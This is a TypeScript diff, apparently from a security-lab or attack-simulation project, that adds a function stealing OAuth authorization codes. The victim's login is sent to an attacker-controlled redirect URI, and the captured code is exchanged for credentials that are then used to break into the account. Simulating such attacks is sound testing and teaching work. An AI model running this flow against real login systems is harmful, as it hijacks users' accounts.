@@ -3,6 +3,7 @@ import type { Fields } from '#http/message';
 import { ORIGIN, PARTNER_ORIGIN } from '../origins';
 import { sha256 } from '../shop/digest';
 import type { Hands } from './attack';
+import { breakIn } from './break-in';
 import { credentialsFrom } from './credentials-in';
 import type { Stolen } from './stolen';
 
@@ -46,4 +47,13 @@ export const exchangeCode = async (
   });
   const response = await hands.send('POST', '/token', FORM, content.toString());
   return response.status === 200 ? credentialsFrom(response) : [];
+};
+
+/** The victim logs in at the address that the attacker made; a code that comes to the attacker's server lets them in. */
+export const leadCodeTo = async (hands: Hands, redirectUri: string): Promise<void> => {
+  const page = await hands.ownPage();
+  await page.openLogin(await addressForCode(redirectUri));
+  const [came] = hands.arrived();
+  if (!came) return hands.note('No code arrived at the attacker’s server.');
+  await breakIn(hands, await exchangeCode(hands, came.url, redirectUri, true));
 };
